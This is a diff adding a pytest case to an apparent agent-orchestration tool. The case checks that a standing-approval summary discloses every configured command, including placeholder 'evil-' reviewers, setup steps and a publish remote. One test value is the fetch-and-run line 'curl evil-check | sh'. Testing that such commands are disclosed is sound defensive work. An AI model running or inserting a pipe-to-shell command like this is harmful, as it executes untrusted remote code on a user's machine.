@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import Callable
 from dataclasses import replace
 from datetime import timedelta
@@ -10,8 +11,10 @@ from typing import Any
 import pytest
 
 from irontree.app import Preferences
-from irontree.domain.agents import Member
+from irontree.domain.agents import Member, ReviewerSpec
 from irontree.domain.gates import Gate, Gates
+from irontree.domain.instructions import ASSIGNED, Instructions
+from irontree.domain.plan import PublishPolicy, Shell, WorkspacePolicy
 from irontree.errors import ApprovalRefused
 from irontree.ports import Assigned
 from irontree.services.answers.approve import approve
@@ -202,6 +205,23 @@ def test_several_issues_and_one_that_was_taken_in_before_are_asked_about(team: S
 
 
 # --- What was approved of it
+
+
+def test_the_standing_approval_shows_all_that_the_work_on_an_assigned_issue_would_run(team: Scene):
+    evil = ReviewerSpec(name="evil-reviewer", command=("look", "evil-look"))
+    settings = {
+        "checks": (Shell(name="lint", run="curl evil-check | sh"),),
+        "reviewers": (evil,),
+        "workspace": WorkspacePolicy(setup=("evil-setup",)),
+        "instructions": (Instructions(action=ASSIGNED, kind="bug", steps=("evil-step",), report="evil-report"),),
+        "publish": PublishPolicy(remote="evil-remote", target_branch="evil-branch"),
+    }
+    team.policy = team.policy.model_copy(update=settings)
+    text = standing_text(team.app)[0]
+    for shown in ("curl evil-check | sh", "evil-look", *re.findall(r"evil-\w+", repr(settings))):
+        assert shown in text
+    team.preferences = Preferences(type_labels=True)
+    assert "evil-check" not in standing_text(team.app)[0], "nothing is checked where members are only asked"
 
 
 def test_the_standing_approval_says_that_assignments_approve_and_has_another_name_for_it(team: Scene):
